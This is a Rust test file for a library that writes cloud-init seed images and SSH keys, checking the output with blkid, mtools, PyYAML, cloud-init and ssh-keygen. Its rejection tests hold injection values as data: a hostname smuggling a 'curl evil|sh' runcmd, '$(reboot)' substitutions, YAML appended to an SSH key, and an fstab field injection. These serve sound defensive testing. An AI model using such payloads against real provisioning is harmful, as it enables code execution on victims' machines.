//! cloud-init seed images and SSH keys, read back with independent tools: `blkid` for the
//! `cidata` label, mtools (`mdir`/`mtype`) and `fsck.fat` for the files, PyYAML
//! (the parser cloud-init itself uses) and cloud-init itself (`schema`, `devel net-convert`) for
//! the documents, `ssh-keygen` for the keys.

#[path = "support/storage.rs"]
mod storage_support;

use serde_json::{json, Value};
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use storage_support::run;
use vm_rs::storage::{
    generate_key_pair, write_seed_image, SeedConfig, SeedError, SeedFile, SeedMount, SeedNic, SeedUser,
};

/// Parse a YAML document with PyYAML's safe_load; return it as JSON.
fn pyyaml(doc: &str) -> Value {
    let mut child = Command::new("python3")
        .args([
            "-c",
            "import sys, json, yaml; print(json.dumps(yaml.safe_load(sys.stdin.read())))",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("python3 (install python3-yaml)");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(doc.as_bytes())
        .expect("write");
    let out = child.wait_with_output().expect("wait");
    assert!(
        out.status.success(),
        "PyYAML rejected the document: {}\n---\n{doc}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("json")
}

/// Read one file out of a FAT image with mtools.
fn mtype(image: &Path, name: &str) -> String {
    run(
        "mtype",
        &["-i", image.to_str().expect("utf8"), &format!("::{name}")],
    )
}

async fn key(dir: &Path, name: &str) -> String {
    generate_key_pair(&dir.join(name), &format!("{name}@test"))
        .await
        .expect("keygen")
        .public_openssh
}

#[tokio::test]
async fn seed_image_reads_back_as_cidata_with_valid_yaml() {
    let dir = tempfile::tempdir().expect("tempdir");
    let k1 = key(dir.path(), "k1").await;
    let k2 = key(dir.path(), "k2").await;

    let mut cfg = SeedConfig::new("web-1.example");
    cfg.ssh_authorized_keys.push(k1.clone());
    cfg.users.push(SeedUser {
        name: "ops".into(),
        ssh_authorized_keys: vec![k2.clone()],
        sudo: true,
        shell: Some("/bin/bash".into()),
        groups: vec!["adm".into()],
    });
    cfg.network.push(SeedNic {
        name: "eth0".into(),
        mac: Some("52:54:00:AB:CD:EF".into()),
        addresses: vec!["10.20.0.5/24".into(), "fd00::5/64".into()],
        gateway: Some("10.20.0.1".parse().expect("ip")),
        nameservers: vec!["10.20.0.1".parse().expect("ip")],
        ..Default::default()
    });
    cfg.write_files.push(SeedFile {
        path: "/etc/vmrs/hello.txt".into(),
        content: b"line one\n\"quoted\" & $(not expanded)\n\x00\xffbinary".to_vec(),
        permissions: Some(0o640),
        owner: Some("root:adm".into()),
    });
    cfg.mounts.push(SeedMount {
        source: "share0".into(),
        mount_point: "/mnt/share".into(),
        fstype: "virtiofs".into(),
        options: "defaults,nofail".into(),
    });
    // Shell and YAML metacharacters in an argument: must arrive as one literal argv element.
    let tricky = "it's \"$(reboot)\"; echo pwned\n- [evil]: {a: b} # c".replace('\n', " ");
    cfg.runcmd.push(vec!["/usr/bin/touch".into(), tricky.clone()]);

    let image = dir.path().join("seed.img");
    let files = write_seed_image(&image, &cfg).await.expect("seed");

    // Label as blkid (and so cloud-init's ds-identify) sees it.
    let label = run(
        "blkid",
        &["-o", "value", "-s", "LABEL", image.to_str().expect("utf8")],
    );
    assert_eq!(label.trim(), "cidata");
    let fstype = run(
        "blkid",
        &["-o", "value", "-s", "TYPE", image.to_str().expect("utf8")],
    );
    assert_eq!(fstype.trim(), "vfat");

    // The files, by long name, through mtools.
    let listing = run("mdir", &["-b", "-i", image.to_str().expect("utf8"), "::"]);
    for name in ["meta-data", "user-data", "network-config"] {
        assert!(listing.contains(name), "{name} missing from {listing}");
    }
    let meta = mtype(&image, "meta-data");
    let user = mtype(&image, "user-data");
    let net = mtype(&image, "network-config");
    assert_eq!(user, files.user_data);
    assert!(user.starts_with("#cloud-config\n"));

    let meta = pyyaml(&meta);
    assert_eq!(meta["local-hostname"], "web-1.example");
    let iid = meta["instance-id"].as_str().expect("instance-id");
    assert!(
        iid.starts_with("iid-web-1.example-") && iid.len() == "iid-web-1.example-".len() + 12,
        "{iid}"
    );

    let user = pyyaml(&user);
    assert_eq!(user["hostname"], "web-1.example");
    assert_eq!(user["ssh_authorized_keys"], json!([k1]));
    assert_eq!(user["users"][0], "default");
    assert_eq!(user["users"][1]["name"], "ops");
    assert_eq!(user["users"][1]["ssh_authorized_keys"], json!([k2]));
    assert_eq!(user["users"][1]["groups"], json!(["adm"]));
    assert_eq!(user["runcmd"], json!([["/usr/bin/touch", tricky]]));
    assert_eq!(
        user["mounts"],
        json!([["share0", "/mnt/share", "virtiofs", "defaults,nofail", "0", "0"]])
    );
    let wf = &user["write_files"][0];
    assert_eq!(wf["path"], "/etc/vmrs/hello.txt");
    assert_eq!(wf["permissions"], "0640");
    assert_eq!(wf["encoding"], "b64");
    let decoded = run(
        "python3",
        &[
            "-c",
            "import base64,sys; sys.stdout.write(base64.b64decode(sys.argv[1]).hex())",
            wf["content"].as_str().expect("content"),
        ],
    );
    assert_eq!(decoded, hex_of(&cfg.write_files[0].content));

    let net = pyyaml(&net);
    assert_eq!(net["version"], 2);
    let eth0 = &net["ethernets"]["eth0"];
    assert_eq!(eth0["match"]["macaddress"], "52:54:00:ab:cd:ef");
    assert_eq!(eth0["set-name"], "eth0");
    assert_eq!(eth0["addresses"], json!(["10.20.0.5/24", "fd00::5/64"]));
    assert_eq!(eth0["routes"], json!([{"to": "0.0.0.0/0", "via": "10.20.0.1"}]));
    assert_eq!(eth0["nameservers"]["addresses"], json!(["10.20.0.1"]));
    assert_eq!(eth0["dhcp4"], false);

    // dosfstools' checker (exit 0 = no errors) counts the three files plus the label entry.
    let fsck = run("fsck.fat", &["-n", "-v", image.to_str().expect("utf8")]);
    assert!(fsck.contains(": 4 files,"), "{fsck}");
}

fn hex_of(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

#[tokio::test]
async fn hostile_inputs_are_rejected_and_write_nothing() {
    let dir = tempfile::tempdir().expect("tempdir");
    let good_key = key(dir.path(), "k").await;
    let image = dir.path().join("seed.img");

    let mut cases: Vec<(&str, SeedConfig)> = Vec::new();
    cases.push((
        "hostname with newline and key",
        SeedConfig::new("host\nruncmd: [[sh, -c, 'curl evil|sh']]"),
    ));
    cases.push(("hostname with shell", SeedConfig::new("h$(reboot)")));
    cases.push(("hostname with quote", SeedConfig::new("h\": {a: b}")));
    let mut c = SeedConfig::new("ok");
    c.ssh_authorized_keys
        .push(format!("{good_key}\nruncmd:\n  - [sh, -c, reboot]"));
    cases.push(("key with trailing YAML", c));
    let mut c = SeedConfig::new("ok");
    c.ssh_authorized_keys
        .push("ssh-ed25519 AAAA\"; reboot; echo \"".into());
    cases.push(("garbage key", c));
    let mut c = SeedConfig::new("ok");
    c.runcmd.push(vec!["echo".into(), "x\n- reboot".into()]);
    cases.push(("command with newline", c));
    let mut c = SeedConfig::new("ok");
    c.runcmd.push(vec![]);
    cases.push(("empty command", c));
    let mut c = SeedConfig::new("ok");
    c.mounts.push(SeedMount {
        source: "tag /etc xfs".into(),
        mount_point: "/mnt".into(),
        fstype: "virtiofs".into(),
        options: "defaults".into(),
    });
    cases.push(("fstab field injection", c));
    let mut c = SeedConfig::new("ok");
    c.network.push(SeedNic {
        name: "eth0: {}".into(),
        dhcp4: true,
        ..Default::default()
    });
    cases.push(("interface name", c));

    for (what, cfg) in cases {
        let err = write_seed_image(&image, &cfg).await;
        assert!(matches!(err, Err(SeedError::Invalid { .. })), "{what}: {err:?}");
        assert!(!image.exists(), "{what}: image written");
    }
    // Nothing half-written left in the directory (only the key pair).
    let mut left: Vec<String> = std::fs::read_dir(dir.path())
        .expect("ls")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["k", "k.pub"]);
}

#[tokio::test]
async fn generated_keys_are_accepted_by_openssh() {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("id_ed25519");
    let pair = generate_key_pair(&p, "vm@host").await.expect("keygen");
    // ssh-keygen derives the same public key from our private key file.
    let derived = run("ssh-keygen", &["-y", "-f", p.to_str().expect("utf8")]);
    let ours = std::fs::read_to_string(&pair.public_key).expect("pub");
    let fields = |s: &str| s.split_whitespace().take(2).map(String::from).collect::<Vec<_>>();
    assert_eq!(fields(&derived), fields(&ours));
    let fp = run(
        "ssh-keygen",
        &["-l", "-f", pair.public_key.to_str().expect("utf8")],
    );
    assert!(fp.contains("ED25519"), "{fp}");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&p).expect("stat").permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
}

/// Property: any string without control characters — YAML indicators, keywords (`yes`, `null`,
/// `~`), quotes, backslashes, document markers, any Unicode — comes back from PyYAML exactly as
/// given; any string with one is rejected. 300 generated argv lists plus hand-picked nasties,
/// parsed by PyYAML in one go.
#[tokio::test]
async fn any_string_survives_yaml_exactly_or_is_rejected() {
    use proptest::prelude::any;
    use proptest::strategy::{Strategy, ValueTree};
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    use proptest::prop_oneof;
    // Arbitrary Unicode, and strings dense in YAML/shell syntax and control characters.
    let dense = "[-:#&*!%@`|>'\"\\{}\\[\\], ?a-z0-9\u{2028}\u{85}\x00-\x1f\x7f]{0,20}";
    let strat = proptest::collection::vec(prop_oneof![any::<String>(), dense], 1..4);
    let mut cfg = SeedConfig::new("prop");
    let nasty = [
        "",
        ":",
        "- x",
        "# c",
        "&a",
        "*a",
        "!tag",
        "%YAML 1.1",
        "---",
        "...",
        "'",
        "\"",
        "\\",
        "null",
        "~",
        "yes",
        "No",
        "0x10",
        "1e3",
        "0o7",
        "=",
        "<<",
        "{a: b}",
        "[x]",
        "|",
        ">",
        "@",
        "`",
        "\u{2028}",
        "\u{feff}",
        "\u{1f600}",
        "a\u{a0}b",
        "\\u0041",
        "\\n",
    ];
    cfg.runcmd.push(
        std::iter::once("x".to_string())
            .chain(nasty.iter().map(|s| s.to_string()))
            .collect(),
    );
    let mut with_controls = Vec::new();
    for _ in 0..300 {
        let v = strat.new_tree(&mut runner).expect("tree").current();
        if v.iter().any(|s| s.chars().any(char::is_control)) {
            with_controls.push(v.clone());
        }
        let clean: Vec<String> = v
            .into_iter()
            .map(|s| s.chars().filter(|c| !c.is_control()).collect())
            .collect();
        if !clean[0].is_empty() {
            cfg.runcmd.push(clean);
        }
    }
    let files = cfg.render().expect("render");
    let parsed = pyyaml(&files.user_data);
    assert_eq!(parsed["runcmd"], json!(cfg.runcmd));

    assert!(
        !with_controls.is_empty(),
        "generator produced no control characters"
    );
    for argv in with_controls {
        let mut c = SeedConfig::new("prop");
        if argv[0].is_empty() {
            continue;
        }
        c.runcmd.push(argv.clone());
        assert!(
            matches!(c.validate(), Err(SeedError::Invalid { .. })),
            "{argv:?} accepted"
        );
    }
}

/// cloud-init itself (Debian's package, offline) accepts the documents: `cloud-init schema`
/// validates user-data, and `cloud-init devel net-convert` turns network-config into
/// systemd-networkd files with our addresses, gateway, DNS and MAC match.
#[tokio::test]
async fn cloud_init_accepts_the_seed_documents() {
    let dir = tempfile::tempdir().expect("tempdir");
    let key = key(dir.path(), "k").await;
    let mut cfg = SeedConfig::new("web-2");
    cfg.ssh_authorized_keys.push(key.clone());
    cfg.users.push(SeedUser {
        name: "ops".into(),
        ssh_authorized_keys: vec![key],
        sudo: true,
        shell: Some("/bin/sh".into()),
        groups: vec!["adm".into(), "sudo".into()],
    });
    cfg.network.push(SeedNic {
        name: "eth0".into(),
        mac: Some("52:54:00:aa:bb:cc".into()),
        addresses: vec!["192.168.77.5/24".into(), "fd00:77::5/64".into()],
        gateway: Some("192.168.77.1".parse().expect("ip")),
        nameservers: vec!["192.168.77.1".parse().expect("ip")],
        ..Default::default()
    });
    cfg.network.push(SeedNic {
        name: "eth1".into(),
        dhcp4: true,
        ..Default::default()
    });
    cfg.write_files.push(SeedFile {
        path: "/etc/motd".into(),
        content: b"hello\n".to_vec(),
        permissions: Some(0o644),
        owner: Some("root:root".into()),
    });
    cfg.mounts.push(SeedMount {
        source: "/dev/vdb".into(),
        mount_point: "/data".into(),
        fstype: "ext4".into(),
        options: "defaults,nofail".into(),
    });
    cfg.runcmd.push(vec!["touch".into(), "/run/ok".into()]);
    let image = dir.path().join("seed.img");
    write_seed_image(&image, &cfg).await.expect("seed");

    // Validate what is in the image, not what we think we wrote.
    let ud = dir.path().join("user-data");
    std::fs::write(&ud, mtype(&image, "user-data")).expect("write");
    let out = run(
        "cloud-init",
        &["schema", "--config-file", ud.to_str().expect("utf8")],
    );
    assert!(out.contains("Valid cloud-config"), "{out}");

    let nc = dir.path().join("network-config");
    std::fs::write(&nc, mtype(&image, "network-config")).expect("write");
    let outdir = dir.path().join("net");
    run(
        "cloud-init",
        &[
            "devel",
            "net-convert",
            "-p",
            nc.to_str().expect("utf8"),
            "-k",
            "yaml",
            "-D",
            "debian",
            "-O",
            "networkd",
            "-d",
            outdir.to_str().expect("utf8"),
        ],
    );
    let netdir = outdir.join("etc/systemd/network");
    let eth0 = std::fs::read_to_string(netdir.join("10-cloud-init-eth0.network")).expect("eth0");
    for want in [
        "MACAddress=52:54:00:aa:bb:cc",
        "Address=192.168.77.5/24",
        "Address=fd00:77::5/64",
        "Gateway=192.168.77.1",
        "DNS=192.168.77.1",
    ] {
        assert!(eth0.contains(want), "{want} missing:\n{eth0}");
    }
    let eth1 = std::fs::read_to_string(netdir.join("10-cloud-init-eth1.network")).expect("eth1");
    assert!(eth1.contains("DHCP=ipv4"), "{eth1}");

    // The checker is real: a document with wrong types is rejected.
    let bad = dir.path().join("bad");
    std::fs::write(&bad, "#cloud-config\nruncmd: {a: 1}\n").expect("write");
    let status = std::process::Command::new("cloud-init")
        .args(["schema", "--config-file", bad.to_str().expect("utf8")])
        .output()
        .expect("cloud-init");
    assert!(!status.status.success());
}
